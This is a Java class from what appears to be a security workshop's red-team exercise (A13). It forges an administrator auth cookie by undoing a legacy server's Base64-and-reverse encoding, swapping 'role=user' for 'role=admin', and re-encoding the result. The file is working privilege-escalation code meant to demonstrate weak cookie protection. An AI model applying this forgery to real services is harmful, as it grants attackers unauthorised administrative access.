package workshop.attacks;

import java.nio.charset.StandardCharsets;
import java.util.Base64;

/** Red team: an auth cookie that only looks encrypted (ATTACK DEMO, loopback only). */
public final class CookieForgery {

    private CookieForgery() {
    }

    /**
     * A13 · The value of an {@code a13_auth} cookie for the same user with {@code role=admin} instead of
     * {@code role=user}, in the same encoding the legacy server uses. IllegalArgumentException if {@code cookie} is
     * not in that encoding.
     */
    public static String asAdmin(String cookie) {
        String value = new StringBuilder(new String(Base64.getDecoder().decode(cookie), StandardCharsets.UTF_8)).reverse().toString();
        if (!value.contains("role=user")) {
            throw new IllegalArgumentException("not a legacy a13 cookie: it decodes to '" + value + "'");
        }
        String forged = value.replace("role=user", "role=admin");
        return Base64.getEncoder().encodeToString(new StringBuilder(forged).reverse().toString().getBytes(StandardCharsets.UTF_8));
    }
}
